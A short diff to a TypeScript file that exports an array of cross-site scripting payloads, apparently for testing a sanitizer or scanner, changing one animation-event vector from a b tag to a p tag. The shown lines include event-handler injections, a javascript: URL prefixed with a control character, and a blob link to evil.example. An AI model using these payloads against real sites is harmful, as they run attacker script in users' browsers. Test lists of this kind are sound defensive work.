@@ -104,7 +104,7 @@ export const xssPayloads: readonly string[] = [
   `<dialog open oncancel=${call}>x</dialog>`,
   `<div contenteditable autofocus onfocus=${call}>x</div>`,
   `<x tabindex=1 autofocus onfocus=${call}>x</x>`,
-  `<style>*{animation:x}@keyframes x{}</style><b onanimationstart=${call}>x</b>`,
+  `<style>*{animation:x}@keyframes x{}</style><p onanimationstart=${call}>x</p>`,
   `<bdo onpointerrawupdate=${call}>x</bdo>`,
   `<a href="blob:http://evil.example/1">x</a>`,
   `<a href="\u0001javascript:${call}">x</a>`,
